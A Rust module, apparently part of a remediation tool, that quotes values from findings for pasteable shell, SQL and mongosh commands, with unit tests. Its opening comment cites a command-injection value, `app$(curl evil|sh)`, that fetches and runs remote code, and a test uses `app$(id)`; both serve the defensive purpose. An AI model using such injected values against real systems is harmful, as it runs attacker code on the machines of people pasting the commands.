//! Quoting for the plan's commands. A report is input like any other: a leaked URL's username can
//! be `app$(curl evil|sh)`, and a plan is made to be pasted into a shell. So every value from a
//! finding passes through here: first [`value`] replaces what no quoting makes safe everywhere
//! (line breaks and other control characters, backslashes, a leading `-` that a program would
//! take for an option) with a placeholder; then [`sh`] quotes it for the shell, and [`sql_ident`],
//! [`sql_string`] and [`js_string`] for the language inside a command.

/// `text`, or `placeholder` when `text` is empty or cannot be quoted safely for every context a
/// plan puts it in.
pub fn value<'a>(text: Option<&'a str>, placeholder: &'a str) -> &'a str {
    match text {
        Some(t)
            if !t.is_empty()
                && !t.starts_with('-')
                && !t.chars().any(|c| c.is_control() || c == '\\') =>
        {
            t
        }
        _ => placeholder,
    }
}

/// One shell word: bare when it holds only characters no shell treats specially, else in single
/// quotes, inside which the shell expands nothing (a quote itself is closed, escaped, reopened).
pub fn sh(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"_@%+=:,./-".contains(&b));
    if plain {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// An SQL identifier (a PostgreSQL role): double quotes, a quote doubled.
pub fn sql_ident(name: &str) -> String {
    format!("\"{}\"", name.replace('"', "\"\""))
}

/// An SQL string literal: single quotes, a quote doubled. Backslashes never reach here (see
/// [`value`]), so the literal means the same with or without MySQL's backslash escapes.
pub fn sql_string(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// A JavaScript string literal (for `mongosh --eval`): JSON's quoting is JavaScript's.
pub fn js_string(text: &str) -> String {
    serde_json::to_string(text).unwrap_or_else(|_| "\"\"".to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_words_are_quoted_unless_plain() {
        assert_eq!(sh("db.example.com"), "db.example.com");
        assert_eq!(sh("app$(id)"), "'app$(id)'");
        assert_eq!(sh("it's"), r"'it'\''s'");
        assert_eq!(sh("<admin>"), "'<admin>'");
        assert_eq!(sh(""), "''");
    }

    #[test]
    fn unsafe_values_become_placeholders() {
        assert_eq!(value(Some("app"), "<user>"), "app");
        assert_eq!(value(Some("a\nb"), "<user>"), "<user>");
        assert_eq!(value(Some("--help"), "<user>"), "<user>");
        assert_eq!(value(Some(r"a\b"), "<user>"), "<user>");
        assert_eq!(value(None, "<user>"), "<user>");
    }

    #[test]
    fn sql_and_js_quotes_are_doubled_or_escaped() {
        assert_eq!(sql_ident(r#"a"b"#), r#""a""b""#);
        assert_eq!(sql_string("a'b"), "'a''b'");
        assert_eq!(js_string(r#"a"b"#), r#""a\"b""#);
    }
}
